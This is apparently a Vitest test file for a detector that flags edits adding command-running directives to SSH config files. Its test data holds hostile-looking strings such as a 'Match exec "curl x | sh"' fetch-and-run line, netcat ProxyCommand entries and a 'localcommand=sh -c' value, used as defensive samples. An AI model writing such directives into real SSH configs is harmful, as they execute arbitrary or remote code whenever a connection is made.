import { expect, test } from 'vitest'
import { startsAt } from './started-later.ts'

test.each([
  ['/home/dev/.ssh/config', 'Host *\n  ProxyCommand nc %h %p\n', true],
  ['/home/dev/.ssh/config', 'Match host a exec "curl x | sh"\n', true],
  ['/home/dev/.ssh/config.d/work', 'localcommand=sh -c x', true],
  ['/home/dev/.ssh/config', 'Host a\n  HostName a.example\n  User ann\n', false],
  ['/home/dev/.ssh/config', 'Host a\n  ProxyCommand none\n', false],
  ['/home/dev/docs/config', 'ProxyCommand nc %h %p\n', false],
])('%s: %s', (path, text, expected) => expect(startsAt(path)?.(text) !== undefined).toBe(expected))

test('what was there before is not the doing of an edit', () =>
  expect(startsAt('/h/.ssh/config')?.('ProxyCommand nc a\nPort 1', 'ProxyCommand nc a')).toBeUndefined())
